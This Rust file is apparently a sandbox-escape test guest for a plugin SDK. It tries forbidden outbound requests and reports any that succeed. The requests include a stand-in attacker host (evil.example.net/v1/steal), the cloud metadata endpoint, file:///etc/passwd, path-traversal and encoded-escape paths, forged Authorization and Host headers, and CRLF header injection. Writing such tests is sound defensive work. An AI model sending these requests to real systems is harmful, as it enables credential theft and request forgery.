//! Tries every door.

use guest_base::{Base, Guest};
use offtake_sdk::{Batch, CallFailure, Context, Detail, NoConfig, Report};

/// The guest.
#[derive(Debug)]
pub struct CallsOut;

impl Guest for CallsOut {
    fn write(cx: &Context<NoConfig>, batch: &Batch) -> Result<Report, CallFailure> {
        let http = cx.http();
        let api = |path: &str| http.post("api", path).auth("token").body("text/plain", "x");
        let request = match batch.object() {
            "forbidden-host" => http.link("GET", "https://evil.example.net/v1/steal"),
            "lookalike-host" => http.link("GET", "https://api.example.com.evil.example.net/v1/steal"),
            "userinfo" => http.link("GET", "https://api.example.com@evil.example.net/v1/steal"),
            "loopback" => http.link("GET", "http://127.0.0.1:9/v1/steal"),
            "metadata-service" => http.link("GET", "http://169.254.169.254/latest/meta-data/"),
            "plain-http" => http.link("GET", "http://api.example.com/v1/things"),
            "file" => http.link("GET", "file:///etc/passwd"),
            "undeclared-endpoint" => http.get("admin", "/v1/things"),
            "credential-elsewhere" => http.get("other", "/v1/things").auth("token"),
            "unknown-slot" => http.get("api", "/v1/things").auth("root"),
            "undeclared-path" => api("/admin/things"),
            "path-escape" => api("/v1/../admin"),
            "encoded-escape" => api("/v1/%2e%2e/admin"),
            "authority-in-path" => api("@evil.example.net/v1/things"),
            "undeclared-method" => http.delete("api", "/v1/things").auth("token"),
            "authorization-header" => api("/v1/things").header("Authorization", "Bearer forged"),
            "host-header" => api("/v1/things").header("Host", "evil.example.net"),
            "header-injection" => api("/v1/things").header("X-Note", "a\r\nX-Forged: b"),
            "method-injection" => http.request("GET / HTTP/1.1\r\nX: y", "api", "/v1/things"),
            _ => api("/v1/things"),
        };
        let mut report = Report::new(batch);
        match request.send() {
            Ok(response) => {
                let message = format!("the vendor answered {}", response.status());
                report.reject_rest(batch, &Detail::new("got_out", message));
            }
            Err(failure) => report.reject_rest(batch, failure.failure.detail()),
        }
        Ok(report)
    }
}

offtake_sdk::export!(Base<CallsOut>);
